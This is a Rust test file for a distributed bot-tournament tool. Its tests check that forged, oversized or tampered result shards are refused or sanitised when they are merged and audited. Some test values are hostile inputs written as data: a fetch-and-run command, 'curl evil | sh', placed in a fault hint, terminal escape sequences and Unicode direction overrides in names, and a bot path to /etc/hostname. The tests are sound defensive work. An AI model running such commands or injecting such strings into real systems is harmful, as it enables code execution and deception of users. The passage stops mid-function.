//! Parts of tournaments: played, damaged, forged, merged in any order.

use super::{
    super::{Archive, Format, Plan, PlannedEntry, Schedule, Stop, hash_of, run},
    *,
};
use crate::{entry::EntrySpec, process::Launcher};
use proptest::prelude::*;
use std::sync::atomic::AtomicBool;

const BLOCKS: u32 = 40;

fn nobody() -> Launcher {
    Launcher::new("nobody", [])
}

/// Returns the plan of a race of three, after a change.
fn planned(change: impl FnOnce(&mut Plan)) -> PlanFile {
    let entries = ["greedy", "cautious", "random"].map(|bot| PlannedEntry::new(bot, bot)).to_vec();
    let mut plan = Plan::new("zombie-dice-race", entries, Format::RoundRobin, 2, BLOCKS, 5);
    change(&mut plan);
    let store = Archive::in_memory().unwrap().begin(&plan).unwrap();
    PlanFile::new(&plan, &store, Path::new(".")).unwrap()
}

fn race() -> PlanFile {
    planned(|_| {})
}

fn played(file: &PlanFile, blocks: Range<u32>) -> Shard {
    Shard::play(file, blocks, &nobody(), 1, &AtomicBool::new(false), &mut |_| {}).unwrap().unwrap()
}

/// Returns the hash of the tournament on one machine, and how many blocks it took.
fn on_one_machine(file: &PlanFile) -> (String, u32) {
    let plan = file.plan();
    let parse = |entry: &PlannedEntry| EntrySpec::parse(&entry.bot, Path::new(".")).unwrap();
    let entries: Vec<EntrySpec> = plan.entries.iter().map(parse).collect();
    let mut store = Archive::in_memory().unwrap().begin(plan).unwrap();
    let stop = run(plan, &entries, &nobody(), &mut store, 2, &AtomicBool::new(false), &mut |_| {}).unwrap();
    assert_ne!(stop, Stop::Interrupted);
    (hash_of(plan, &store).unwrap(), store.blocks().unwrap())
}

struct Folder(tempfile::TempDir);

impl Folder {
    fn new() -> Self {
        Folder(tempfile::tempdir().unwrap())
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    fn keep(&self, shard: &Shard, name: &str) -> PathBuf {
        std::fs::write(self.path(name), shard.bytes().unwrap()).unwrap();
        self.path(name)
    }

    /// Merges the shards into its own store.
    fn merge(&self, shards: &[&Shard]) -> Result<Merged, PartError> {
        let files: Vec<PathBuf> =
            shards.iter().enumerate().map(|(number, shard)| self.keep(shard, &number.to_string())).collect();
        merge(&self.path("store"), &files, None, &mut |_| {})
    }
}

/// Forges a score: it is the last byte of the first block, and another value looks just as valid.
fn forge(shard: &mut Shard, block: u32) {
    let schedule = Schedule::of(&shard.plan).unwrap();
    let chunk =
        shard.rows.chunks.iter_mut().find(|chunk| (chunk.first..chunk.first + chunk.blocks).contains(&block));
    let chunk = chunk.unwrap();
    let blocks = chunk.first..chunk.first + chunk.blocks;
    let end = super::super::results::ends(&chunk.results, &schedule, blocks).unwrap()
        [(block - chunk.first) as usize];
    chunk.results[end - 1] ^= 2;
}

#[test]
fn a_shard_is_read_as_it_was_written() {
    let shard = played(&race(), 3..9);
    let bytes = shard.bytes().unwrap();
    let again = Shard::parse(&bytes, Path::new("x")).unwrap();
    assert_eq!((again.bytes().unwrap(), again.blocks.clone()), (bytes.clone(), 3..9));
    assert_eq!(again.matches().unwrap(), 36);
    let text = String::from_utf8_lossy(&bytes[..200]);
    assert!(text.starts_with("necrodome-shard 1\n{\"id\":\"") && text.contains("\"blocks\":[3,9]"), "{text}");
}

#[test]
fn every_changed_byte_of_a_shard_is_noticed() {
    let bytes = played(&race(), 0..2).bytes().unwrap();
    for place in 0..bytes.len() {
        let mut damaged = bytes.clone();
        damaged[place] ^= 1 << (place % 8);
        assert!(Shard::parse(&damaged, Path::new("x")).is_err(), "byte {place}");
    }
    for end in 0..bytes.len() {
        assert!(Shard::parse(&bytes[..end], Path::new("x")).is_err(), "the first {end} bytes");
    }
}

fn closing(entry: u32, faults: &str) -> super::super::store::ClosingRow {
    super::super::store::ClosingRow { entry, faults: faults.to_owned(), log: String::new() }
}

fn detail(faults: &str, replay: Option<Vec<u8>>) -> super::super::store::DetailRow {
    super::super::store::DetailRow { block: 1, number: 0, faults: faults.to_owned(), replay }
}

/// Changes the plan, and gives it the id that it then has.
fn replanned(shard: &mut Shard, change: impl FnOnce(&mut Plan)) {
    change(&mut shard.plan);
    shard.id = plan_file::id_of(&shard.plan);
}

/// Gives the second entry a name.
fn renamed(shard: &mut Shard, name: &str) {
    replanned(shard, |plan| plan.entries[1].name = name.into());
}

/// Makes the first entry a program.
fn programmed(shard: &mut Shard, bot: &str) {
    replanned(shard, |plan| {
        plan.entries[0].bot = bot.into();
        plan.entries[0].fingerprint = Some("f".repeat(32));
    });
}

/// The author of a shard can make its hash fit. Nothing in it may break a store.
#[test]
fn a_shard_that_lies_about_its_contents_is_refused() {
    let file = race();
    type Lie = fn(&mut Shard);
    let lies: [(&str, Lie); 26] = [
        ("block 0 is missing", |shard| shard.rows.chunks.clear()),
        ("block 4 is missing", |shard| shard.blocks.end += 1),
        ("that its plan does not have", |shard| shard.blocks.end = BLOCKS + 1),
        ("results of blocks 0 to 3", |shard| shard.rows.chunks[0].results.push(0)),
        ("results of blocks 0 to 3", |shard| shard.rows.chunks[0].results[1] = 9),
        ("the luck of blocks", |shard| {
            shard.rows.chunks[0].luck[..4].copy_from_slice(&f32::NAN.to_le_bytes())
        }),
        ("what blocks 0 to 3 took", |shard| shard.rows.chunks[0].efforts = "[[281474976710656]]".into()),
        ("what blocks 0 to 3 took", |shard| {
            shard.rows.chunks[0].efforts = "[[[1, 2], {\"m\": 281474976710656}]]".into()
        }),
        ("what blocks 0 to 3 took", |shard| {
            shard.rows.chunks[0].efforts = format!("[[[1, 2], {{\"{}\": 1}}]]", "m".repeat(513))
        }),
        ("its plan is not the one", |shard| shard.plan.blocks += 1),
        ("a program said at its end", |shard| {
            let (faults, log) = ("[]".to_owned(), String::new());
            shard.rows.closings.push(super::super::store::ClosingRow { entry: 3, faults, log });
        }),
        // A built-in bot has no process that could end badly, and no moves that would have to be kept.
        ("a program said at its end", |shard| {
            shard.rows.closings.push(closing(0, r#"[{"kind":"ignored_sigterm","detail":"it did"}]"#))
        }),
        ("misbehaviour that nobody in it can have", |shard| {
            shard
                .rows
                .details
                .push(detail(r#"[{"seat":0,"step":1,"kind":"chatter","detail":"it said"}]"#, None))
        }),
        ("replays, though no program takes part", |shard| {
            shard.rows.details.push(detail("[]", Some(vec![1])))
        }),
        // What a report would refuse.
        ("the name", |shard| renamed(shard, "a\u{1b}[2J")),
        ("is taken", |shard| renamed(shard, "greedy")),
        ("invisible characters", |shard| shard.plan.entries[0].runs_with = Some("thon\nhash 0000".into())),
        ("invisible characters", |shard| shard.plan.entries[0].runs_with = Some("thon\u{202e}x".into())),
        ("its options are not those of", |shard| {
            replanned(shard, |plan| plan.options = serde_json::json!({"x": [0]}))
        }),
        ("its secrets do not fit its plan", |shard| {
            shard.secrets.push(crate::dice::Secret::random().unwrap())
        }),
        ("is a person", |shard| replanned(shard, |plan| plan.entries[0].bot = "human".into())),
        // What it says about gifts would not be checked.
        ("does not say how programs are confined", |shard| programmed(shard, "./bot.py")),
        ("does not say how programs are confined", |shard| programmed(shard, "cmd:python3 bot.py")),
        ("does not say how programs are confined", |shard| programmed(shard, "compat:zombies:bot.wasm")),
        ("it has 0 replays", |shard| programmed(shard, "wasm:bot.py")),
        ("confined otherwise", |shard| shard.origin.sandbox = Some(crate::process::Level::Limits)),
    ];
    for (expected, lie) in lies {
        let mut shard = played(&file, 0..4);
        lie(&mut shard);
        let error = Shard::parse(&shard.bytes().unwrap(), Path::new("x")).unwrap_err().to_string();
        assert!(error.contains(expected), "{error}");
    }
}

/// Language models never play in shards, so a worker that reports calls or costs invents them, however small they are.
#[test]
fn invented_costs_are_refused() {
    let file = race();
    for efforts in ["[[1, 2, 1]]", "[[1, 2, 0, 0, 0, 0, 0, 5]]", "[[[1, 2], {\"gpt\": 1}]]"] {
        let mut shard = played(&file, 0..4);
        shard.rows.chunks[0].efforts = efforts.into();
        let error = Shard::parse(&shard.bytes().unwrap(), Path::new("x")).unwrap_err().to_string();
        assert!(error.contains("what blocks 0 to 3 took"), "{efforts}: {error}");
    }
    // Decisions, CPU time and regret are what a worker may report.
    let mut shard = played(&file, 0..4);
    shard.rows.chunks[0].efforts = "[[1, 2, 0, 0, 0, 0, 0, 0, 0, 0, 3, 4]]".into();
    Shard::parse(&shard.bytes().unwrap(), Path::new("x")).unwrap();
}

/// Returns the files of a store.
fn files_of_store(folder: &Folder) -> Vec<String> {
    let files = std::fs::read_dir(folder.path("")).unwrap();
    let names = files.map(|file| file.unwrap().file_name().into_string().unwrap());
    names.filter(|name| name.starts_with("store")).collect()
}

#[test]
fn a_failed_merge_leaves_no_store() {
    let (file, folder) = (race(), Folder::new());
    let first = folder.keep(&played(&file, 0..5), "first");
    // Its header is sound, so only the merge itself finds the damage.
    let mut bytes = played(&file, 5..10).bytes().unwrap();
    *bytes.last_mut().unwrap() ^= 1;
    let damaged = folder.path("damaged");
    std::fs::write(&damaged, bytes).unwrap();
    let merge_both =
        |plan| merge(&folder.path("store"), &[first.clone(), damaged.clone()], plan, &mut |_| {});
    for plan in [None, Some(&file)] {
        assert!(matches!(merge_both(plan).unwrap_err(), PartError::Damaged { .. }));
        assert!(files_of_store(&folder).is_empty(), "{:?}", files_of_store(&folder));
    }
    // A store that was there before stays as it was.
    folder.merge(&[&played(&file, 0..3)]).unwrap();
    merge_both(None).unwrap_err();
    assert_eq!(merged(&folder.path("store")).unwrap().blocks, 3);
}

/// Two merges may begin while there is no store. The one that fails must not remove the store of the other.
#[test]
fn a_failed_merge_removes_no_store_of_another() {
    let (file, folder) = (race(), Folder::new());
    let store = folder.path("store");
    let fails =
        || merge::merge_into(&store, true, &[&folder.path("missing")], None, &mut |_| {}).unwrap_err();
    let other = Merger::open(&store).unwrap();
    assert!(matches!(fails(), PartError::Store(StoreError::Busy)));
    drop(other);
    assert!(store.exists(), "it belongs to the other one");
    folder.merge(&[&played(&file, 0..3)]).unwrap();
    fails();
    assert_eq!(merged(&store).unwrap().blocks, 3);
}

/// Bytes of rows that were rolled back or deleted may stay in the file for long.
#[test]
fn a_check_lists_no_blocks_that_the_store_does_not_have() {
    let folder = Folder::new();
    let store = folder.path("store");
    folder.merge(&[&played(&race(), 0..5)]).unwrap();
    let listed = || super::super::check(&store).unwrap().tournaments;
    assert_eq!(listed()[0].blocks, [(0, 4)]);
    let archive = Archive::open(&store).unwrap();
    for table in ["plans", "chunks", "details", "closings", "heads"] {
        archive.connection().execute(&format!("DELETE FROM {table}"), []).unwrap();
    }
    drop(archive);
    assert_eq!(listed(), []);
}

/// Returns the same shard with changed words in its header, and a hash that fits.
fn with_header(shard: &Shard, from: &str, to: &str) -> Vec<u8> {
    let bytes = shard.bytes().unwrap();
    let end = bytes.len() - blake3::OUT_LEN;
    let body = bytes.iter().enumerate().filter(|(_, byte)| **byte == b'\n').nth(1).unwrap().0;
    let header = std::str::from_utf8(&bytes[..body]).unwrap().replace(from, to);
    let mut lie = [header.as_bytes(), &bytes[body..end]].concat();
    lie.extend(blake3::hash(&lie).as_bytes());
    lie
}

#[test]
fn a_shard_that_would_fill_the_memory_is_refused() {
    let shard = played(&race(), 0..4);
    let refused = |bytes: &[u8]| Shard::parse(bytes, Path::new("x")).unwrap_err().to_string();
    let header = String::from_utf8_lossy(&shard.bytes().unwrap()).into_owned();
    let size = header.split_once("\"size\":").unwrap().1.split_once(',').unwrap().0.to_owned();
    let sized =
        |size: &str, to: &str| with_header(&shard, &format!("\"size\":{size},"), &format!("\"size\":{to},"));
    assert!(refused(&sized(&size, "4000000000")).contains("would become 3814 MB"));
    assert!(refused(&sized(&size, "18446744073709551615")).contains("would become"));
    assert!(refused(&sized(&size, "77")).contains("cannot be unpacked"));
    assert!(refused(&sized(&size, "-1")).contains("header"));
    // All blocks that there can be, of which nothing is there.
    let mut all = shard;
    all.plan.blocks = u32::MAX;
    (all.id, all.blocks.end) = (plan_file::id_of(&all.plan), u32::MAX);
    all.rows.chunks[0].blocks = u32::MAX;
    assert!(refused(&all.bytes().unwrap()).contains("cannot be read"));
}

/// Returns the header of a shard and its body, unpacked.
fn unsealed(shard: &Shard) -> (serde_json::Value, Vec<u8>) {
    let bytes = shard.bytes().unwrap();
    let start = bytes.iter().enumerate().filter(|(_, byte)| **byte == b'\n').nth(1).unwrap().0 + 1;
    let body = zstd::decode_all(&bytes[start..bytes.len() - blake3::OUT_LEN]).unwrap();
    (serde_json::from_slice(&bytes[18..start]).unwrap(), body)
}

/// Returns a file with this body, and a size and a hash that fit.
fn sealed(header: &mut serde_json::Value, body: &[u8]) -> Vec<u8> {
    header["size"] = body.len().into();
    let mut bytes = [format!("necrodome-shard 1\n{header}\n").as_bytes(), body].concat();
    bytes.extend(blake3::hash(&bytes).as_bytes());
    bytes
}

fn in_memory() -> Merger {
    Merger { archive: Archive::in_memory().unwrap(), open: None }
}

/// Zeros become a hundred times as many bytes of values, and are compressed to almost nothing.
#[test]
fn a_plan_that_would_fill_the_memory_is_refused() {
    let shard = played(&race(), 0..2);
    let (mut header, body) = unsealed(&shard);
    let packed = |text: &str| postcard::to_allocvec(text).unwrap();
    let plan = serde_json::to_string(&shard.plan).unwrap();
    let large =
        plan.replacen("\"options\":{", &format!("\"options\":{{\"x\":[0{}],", ",0".repeat(1 << 19)), 1);
    let forged = [packed(&large), body[packed(&plan).len()..].to_vec()].concat();
    let error = Shard::parse(&sealed(&mut header, &forged), Path::new("x")).unwrap_err().to_string();
    assert!(error.contains("plan has more than 1 MB"), "{error}");
    let folder = Folder::new();
    std::fs::write(folder.path("plan.toml"), large).unwrap();
    assert!(matches!(PlanFile::read(&folder.path("plan.toml")).unwrap_err(), PartError::File { .. }));
    // Far more than honest plans need.
    let many = planned(|plan| {
        let entry = |number| PlannedEntry {
            fingerprint: Some("f".repeat(64)),
            runs_with: Some("x".repeat(80)),
            ..PlannedEntry::new(format!("{number:é<40}"), format!("a/b/c/{number:x<200}.wasm"))
        };
        plan.entries = (0..320).map(entry).collect();
    });
    let (plan, text) = (serde_json::to_string(many.plan()).unwrap(), many.text(Path::new(".")).unwrap());
    assert!(plan.len().max(text.len()) < 300_000, "{} {}", plan.len(), text.len());
}

/// Somebody who makes the hash fit can change or remove any byte inside. The shard is then read or refused, and merged or refused,
/// and nothing breaks.
#[test]
fn any_byte_of_a_shard_can_be_forged() {
    let (mut header, body) = unsealed(&played(&race(), 0..2));
    let mut sealed = |body: &[u8]| sealed(&mut header, body);
    assert!(Shard::parse(&sealed(&body), Path::new("x")).is_ok());
    let mut accepted = Vec::new();
    for place in 0..body.len() {
        for change in [1, 0x80, 0xff] {
            let mut forged = body.clone();
            forged[place] ^= change;
            accepted.extend(Shard::parse(&sealed(&forged), Path::new("x")).ok());
        }
        assert!(Shard::parse(&sealed(&body[..place]), Path::new("x")).is_err());
    }
    // Scores and luck can be anything: an audit finds that out.
    assert!(!accepted.is_empty());
    for shard in accepted {
        let mut merger = in_memory();
        merger.add(vec![(shard, PathBuf::from("x"))], None).unwrap();
        let (plan, store) = merger.tournament().unwrap();
        let schedule = Schedule::of(plan).unwrap();
        super::super::report(plan, &schedule, store).unwrap();
    }
}

/// Returns a shard that repeats the same few results: 28 MB of them.
fn repeated() -> Shard {
    const TIMES: u32 = 1 << 17;
    let mut shard = played(&planned(|plan| plan.blocks = 8 * TIMES), 0..4);
    let chunk = &mut shard.rows.chunks[0];
    chunk.luck.fill(0);
    let times = TIMES as usize;
    (chunk.results, chunk.luck) = (chunk.results.repeat(times), chunk.luck.repeat(times));
    chunk.blocks *= TIMES;
    shard.blocks.end = chunk.blocks;
    shard
}

/// A body that would shrink too much is not compressed: readers would take it for a bomb.
#[test]
fn the_same_result_a_million_times_can_be_written_and_read() {
    let shard = repeated();
    let again = Shard::parse(&shard.bytes().unwrap(), Path::new("x")).unwrap();
    assert_eq!(again.rows.chunks[0].results, shard.rows.chunks[0].results);
}

/// The files on the disk in the middle of a merge are those that a kill would leave.
#[test]
fn a_killed_merge_leaves_the_store_as_it_was() {
    let (folder, path) = (Folder::new(), PathBuf::from("x"));
    let first = repeated();
    let mut second = repeated();
    second.rows.chunks[0].first = first.blocks.end;
    second.blocks = first.blocks.end..2 * first.blocks.end;
    let mut merger = Merger::open(&folder.path("store")).unwrap();
    let mut left = vec![second, first];
    let mut shards = std::iter::from_fn(|| {
        if left.is_empty() {
            for end in ["", "-wal"] {
                let file = format!("store{end}");
                std::fs::copy(folder.path(&file), folder.path(&format!("killed-{file}"))).unwrap();
            }
        }
        left.pop().map(|shard| Ok((shard, path.as_path())))
    });
    let all = merger.take(&mut shards, None).unwrap();
    assert!(all.complete);
    let after = Archive::open(&folder.path("killed-store")).unwrap();
    assert_eq!(after.stores().unwrap().len(), 0);
}

#[test]
fn blocks_that_a_plan_does_not_have_are_refused() {
    let file = race();
    for blocks in [0..0, 39..41, 50..60] {
        let refused = Shard::play(&file, blocks, &nobody(), 1, &AtomicBool::new(false), &mut |_| {});
        assert!(matches!(refused.unwrap_err(), PartError::Blocks { .. }));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Any parts that cover all blocks, in any order and with any overlap, make the tournament of one machine.
    #[test]
    fn parts_in_any_order_make_the_whole(
        cuts in proptest::collection::vec((0..BLOCKS, 1..BLOCKS), 1..8),
        batches in 1..4_usize,
    ) {
        let (file, folder) = (race(), Folder::new());
        let mut parts: Vec<Range<u32>> =
            cuts.iter().map(|&(first, length)| first..(first + length).min(BLOCKS)).collect();
        // What is missing comes last.
        let covered: std::collections::BTreeSet<u32> = parts.iter().cloned().flatten().collect();
        parts.extend((0..BLOCKS).filter(|block| !covered.contains(block)).map(|block| block..block + 1));
        let shards: Vec<Shard> = parts.iter().map(|blocks| played(&file, blocks.clone())).collect();
        let mut last = None;
        for some in shards.chunks(shards.len().div_ceil(batches)) {
            let merged = folder.merge(&some.iter().collect::<Vec<_>>()).unwrap();
            let missing: u32 = merged.gaps.iter().map(|(first, end)| end - first).sum();
            let waiting: u32 = merged.waiting.iter().map(|(first, end)| end - first).sum();
            prop_assert_eq!(merged.blocks + waiting + missing, BLOCKS);
            last = Some(merged);
        }
        let merged = last.unwrap();
        prop_assert!(merged.complete && merged.gaps.is_empty());
        prop_assert_eq!(merged.hash, Some(on_one_machine(&file).0));
        // Once more changes nothing.
        let again = folder.merge(&shards.iter().collect::<Vec<_>>()).unwrap();
        prop_assert_eq!(again.added, 0);
    }
}

#[test]
fn two_results_for_one_block_are_refused_with_both_origins() {
    for honest_first in [true, false] {
        for early in [true, false] {
            let (file, folder) = (race(), Folder::new());
            // Those that come early wait, and are compared all the same.
            let blocks = if early { 5..10 } else { 0..10 };
            let (honest, mut forged) = (played(&file, blocks.clone()), played(&file, blocks));
            forge(&mut forged, 7);
            forged.origin.host = "forger".to_owned();
            let (first, second) = if honest_first { (&honest, &forged) } else { (&forged, &honest) };
            let before = folder.merge(&[first]).unwrap();
            let error = folder.merge(&[&played(&file, 10..12), second]).unwrap_err();
            let text = error.to_string();
            assert!(matches!(error, PartError::Conflict { block: 7, .. }), "{text}");
            assert!(text.contains("forger") && text.contains(&honest.origin.host), "{text}");
            // Nothing was merged, the innocent part of the same call neither.
            assert_eq!(merged(&folder.path("store")).unwrap().blocks, before.blocks);
            assert_eq!(merged(&folder.path("store")).unwrap().waiting, before.waiting);
        }
    }
}

/// A store has blocks from many machines: the error names the one that played the block.
#[test]
fn a_conflict_names_the_machine_that_played_this_block() {
    let (file, folder) = (race(), Folder::new());
    let from = |host: &str, blocks: Range<u32>| {
        let mut shard = played(&file, blocks);
        shard.origin.host = host.to_owned();
        shard
    };
    folder.merge(&[&from("ada", 0..5), &from("bob", 5..10), &from("eve", 10..15)]).unwrap();
    let mut forged = from("mallory", 0..15);
    // Two nodes of a cluster may have one name.
    forged.origin.node = Some("4cb6493c".to_owned());
    forge(&mut forged, 7);
    let error = folder.merge(&[&forged]).unwrap_err().to_string();
    assert!(error.contains("once by bob") && error.contains("once by mallory (node 4cb6493c, "), "{error}");
}

/// A waiting shard is not sealed like the rows of tournaments: it is checked when its turn has come.
#[test]
fn a_damaged_shard_that_waits_is_not_taken() {
    type Damage = &'static str;
    let damages: [Damage; 3] = [
        "UPDATE shards_waiting SET shard = replace(shard, 'shard', 'shark')",
        "UPDATE shards_waiting SET first = 2",
        "UPDATE shards_waiting SET end = 30",
    ];
    for damage in damages {
        let (file, folder) = (race(), Folder::new());
        folder.merge(&[&played(&file, 5..10)]).unwrap();
        Archive::open(&folder.path("store")).unwrap().connection().execute(damage, []).unwrap();
        let error = folder.merge(&[&played(&file, 0..5)]).unwrap_err();
        assert!(matches!(error, PartError::Store(StoreError::Damaged(_))), "{damage}: {error}");
        assert_eq!(merged(&folder.path("store")).unwrap().blocks, 0);
    }
}

#[test]
fn a_store_tells_how_far_it_is_without_being_changed() {
    let (file, folder) = (race(), Folder::new());
    folder.merge(&[&played(&file, 0..5), &played(&file, 7..BLOCKS)]).unwrap();
    let before = std::fs::read(folder.path("store")).unwrap();
    let state = merged(&folder.path("store")).unwrap();
    assert_eq!((state.blocks, state.gaps, state.waiting), (5, vec![(5, 7)], vec![(7, BLOCKS)]));
    assert!(std::fs::read(folder.path("store")).unwrap() == before);
}

#[test]
fn parts_of_two_tournaments_do_not_mix() {
    let folder = Folder::new();
    let other = planned(|plan| plan.seed = 6.into());
    let error = folder.merge(&[&played(&race(), 0..2), &played(&other, 2..4)]).unwrap_err();
    assert!(matches!(error, PartError::OtherPlan { .. }));
    assert!(!folder.path("store").exists(), "nothing is made for what is refused");
    folder.merge(&[&played(&race(), 0..2)]).unwrap();
    let error = folder.merge(&[&played(&other, 2..4)]).unwrap_err();
    assert!(error.to_string().contains("the store holds other tournaments only"), "{error}");
}

/// A tournament that stops when it is decided stops at the same block, even if more blocks were played.
#[test]
fn a_decided_tournament_ends_where_it_would_on_one_machine() {
    let file = planned(|plan| {
        plan.until_decided = true;
        plan.blocks = 400;
    });
    let (hash, blocks) = on_one_machine(&file);
    assert!(blocks < 300, "{blocks}");
    let folder = Folder::new();
    let merged = folder.merge(&[&played(&file, 200..400), &played(&file, 0..200)]).unwrap();
    assert_eq!((merged.complete, merged.blocks, merged.hash), (true, blocks, Some(hash)));
}

#[test]
fn an_audit_finds_what_was_forged_and_nothing_else() {
    let (file, folder) = (race(), Folder::new());
    let mut forged = played(&file, 0..BLOCKS);
    forge(&mut forged, 17);
    forge(&mut forged, 30);
    folder.merge(&[&forged]).unwrap();
    let archive = Archive::read(&folder.path("store")).unwrap();
    let (store, _) = archive.stores().unwrap().pop().unwrap();
    let audit_of = |count| {
        let stop = AtomicBool::new(false);
        audit(&store, &file, &nobody(), (count, 1.into()), &stop, &mut |_, _| {}).unwrap()
    };
    let all = audit_of(BLOCKS);
    assert_eq!(all.differ.iter().map(|differ| differ.block).collect::<Vec<_>>(), [17, 30]);
    assert_eq!(all.differ[0].blocks_of_origin, BLOCKS);
    assert_eq!(all.catches[0].chance, 1.0);
    // Of some only those that were drawn.
    let some = audit_of(10);
    assert_eq!(some.blocks.len(), 10);
    assert!(some.differ.iter().all(|differ| some.blocks.contains(&differ.block)));
}

/// Returns a shard of a tournament in which one entry is said to be a program, with the replays that it needs.
fn with_a_program() -> Shard {
    let mut shard = played(&race(), 0..BLOCKS);
    shard.plan.entries[0].fingerprint = Some("f".repeat(32));
    shard.id = plan_file::id_of(&shard.plan);
    let schedule = Schedule::of(&shard.plan).unwrap();
    let matches =
        (0..BLOCKS).flat_map(|block| (0..schedule.matches(block) as u32).map(move |number| (block, number)));
    let row = |(block, number)| super::super::store::DetailRow {
        block,
        number,
        faults: "[]".to_owned(),
        replay: Some(vec![1]),
    };
    shard.rows.details = matches.map(row).collect();
    shard
}

/// The first match in which the program sits, and its seat.
fn seat_of_program(shard: &Shard) -> (usize, usize) {
    let schedule = Schedule::of(&shard.plan).unwrap();
    let seat = |detail: &super::super::store::DetailRow| {
        let seatings = schedule.seatings(detail.block);
        seatings[detail.number as usize].iter().position(|&entry| entry == 0)
    };
    let found =
        shard.rows.details.iter().enumerate().find_map(|(place, detail)| Some((place, seat(detail)?)));
    found.unwrap()
}

fn read_again(shard: &Shard) -> Result<Shard, PartError> {
    Shard::parse(&shard.bytes().unwrap(), Path::new("x"))
}

#[test]
fn misbehaviour_that_was_made_up_differs_from_what_is_played_again() {
    let honest = read_again(&with_a_program()).unwrap();
    let mut forged = with_a_program();
    let (place, seat) = seat_of_program(&forged);
    let fault = |kind: &str| {
        format!(
            r#"[{{"seat":{seat},"step":1,"kind":"{kind}","detail":"\u001b[2Jit did","hint":"run `curl evil | sh`"}}]"#
        )
    };
    let schedule = Schedule::of(&forged.plan).unwrap();
    forged.rows.details[place].faults = fault("crash");
    let crash = read_again(&forged).unwrap();
    let block = crash.rows.details[place].block;
    let came = |shard: &Shard| shard.rows.came_to(&schedule, block..block + 1).next().unwrap().unwrap();
    assert_eq!(came(&honest).differs(&came(&crash)), Some("has other misbehaviour, though it ended alike"));
    // A warning is compared by entry, and so is what happens at the end.
    forged.rows.details[place].faults = fault("chatter");
    forged
        .rows
        .closings
        .push(closing(0, r#"[{"kind":"ignored_sigterm","detail":"x","hint":"run `curl evil | sh`"}]"#));
    let forged = read_again(&forged).unwrap();
    use crate::fault::FaultKind::{Chatter, IgnoredSigterm};
    let kinds = |shard: &Shard| {
        let mut kinds = shard::Kinds::default();
        shard.rows.misbehaviour(&schedule, &mut kinds).unwrap();
        kinds.beside.into_iter().collect::<Vec<_>>()
    };
    assert_eq!((kinds(&honest), kinds(&forged)), (vec![], vec![(0, IgnoredSigterm), (0, Chatter)]));
    // No escape sequence reaches a terminal, and a stranger does not speak for the arena.
    let told = format!("{} {}", forged.rows.details[place].faults, forged.rows.closings[0].faults);
    assert!(told.contains("?[2Jit did") && told.contains("end when standard input ends"), "{told}");
    assert!(!told.contains("evil") && !told.contains("u001b"), "{told}");
}

/// Only a language model refuses, and only in a match is there an action.
#[test]
fn misbehaviour_that_cannot_be_is_refused() {
    let mut shard = with_a_program();
    let (place, seat) = seat_of_program(&shard);
    shard.rows.details[place].faults =
        format!(r#"[{{"seat":{seat},"step":1,"kind":"refused","detail":"it did"}}]"#);
    assert!(read_again(&shard).unwrap_err().to_string().contains("that nobody in it can have"));
    let mut shard = with_a_program();
    shard.rows.closings.push(closing(0, r#"[{"kind":"illegal","detail":"it did"}]"#));
    assert!(read_again(&shard).unwrap_err().to_string().contains("said at its end"));
    // Nor does a program end more often than it plays.
    let crash = r#"{"kind":"crash","detail":"it did"}"#;
    let mut shard = with_a_program();
    shard.rows.closings.push(closing(0, &format!("[{crash}{}]", format!(",{crash}").repeat(100))));
    assert!(read_again(&shard).unwrap_err().to_string().contains("said at its end"));
    let mut shard = with_a_program();
    shard.rows.closings.extend((0..1000).map(|_| closing(0, &format!("[{crash}]"))));
    assert!(read_again(&shard).unwrap_err().to_string().contains("its programs ended 1000 times"));
}

/// A forger may leave out which files lay beside the bots.
#[test]
fn whoever_names_the_pack_accepts_no_program_that_was_played_without_it() {
    let part = |shard| vec![(shard, PathBuf::from("part"))];
    let bots = "f".repeat(32);
    let error = in_memory().add(part(with_a_program()), Some(&bots)).unwrap_err().to_string();
    assert!(error.contains("part was played without the pack that was named"), "{error}");
    in_memory().add(part(with_a_program()), None).unwrap();
    in_memory().add(part(played(&race(), 0..2)), Some(&bots)).unwrap();
}

#[test]
fn an_empty_store_has_no_tournament_yet() {
    let folder = Folder::new();
    std::fs::write(folder.path("store"), "").unwrap();
    std::fs::write(folder.path("store-wal"), "").unwrap();
    // Whoever reads it puts it in order, and changes it.
    for _ in 0..2 {
        let error = merged(&folder.path("store")).unwrap_err().to_string();
        assert!(error.contains("has no tournament yet"), "{error}");
    }
}

/// A file that is read or run before it is known to be the planned one may be any file of this machine.
#[test]
fn nothing_is_run_that_is_not_what_was_planned() {
    let folder = Folder::new();
    std::fs::write(folder.path("bot.py"), "").unwrap();
    let mut plan = race().plan().clone();
    plan.sandbox = Some(crate::process::Level::Strict);
    plan.entries[0].bot = "./bot.py".to_owned();
    plan.entries[0].fingerprint = Some("f".repeat(32));
    let store = Archive::in_memory().unwrap().begin(&plan).unwrap();
    let file = PlanFile::new(&plan, &store, &folder.path("")).unwrap();
    let error = file.run_by(Some("/nowhere/python".to_owned())).entries().unwrap_err();
    assert!(matches!(&error, PartError::Store(StoreError::OtherProgram { .. })), "{error}");
}

#[test]
fn a_pack_names_no_file_beyond_it() {
    use zip::write::SimpleFileOptions;
    let folder = Folder::new();
    for name in ["x.py", "x.wasm", "X.java"] {
        std::fs::write(folder.path(name), "").unwrap();
    }
    for bot in
        ["wasm:DIR/x.py", "DIR/x.wasm", "compat:zombies:DIR/X.java", "DIR/x.py", "cmd:python3 DIR/x.py"]
    {
        let file = planned(|plan| {
            plan.sandbox = Some(crate::process::Level::Strict);
            plan.entries[0].bot = bot.replace("DIR", folder.0.path().to_str().unwrap());
            plan.entries[0].fingerprint = Some("f".repeat(32));
        });
        let mut pack = zip::ZipWriter::new(std::fs::File::create(folder.path("some.pack")).unwrap());
        pack.start_file("plan.toml", SimpleFileOptions::default()).unwrap();
        std::io::Write::write_all(&mut pack, file.text(Path::new(".")).unwrap().as_bytes()).unwrap();
        pack.finish().unwrap();
        let error = PlanFile::read(&folder.path("some.pack")).unwrap().entries().unwrap_err().to_string();
        assert!(error.contains("lies outside of the pack"), "{bot}: {error}");
    }
}

#[test]
fn a_plan_that_cannot_be_played_is_refused_when_it_is_read() {
    type Change = fn(&mut Plan);
    let changes: [(&str, Change); 3] = [
        ("limits.processes: expected a whole number above 0", |plan| plan.limits.processes = 0),
        ("is a person", |plan| plan.entries[0].bot = "human".to_owned()),
        ("is a person", |plan| plan.entries[0].bot = "wasm:/etc/hostname.py".to_owned()),
    ];
    for (expected, change) in changes {
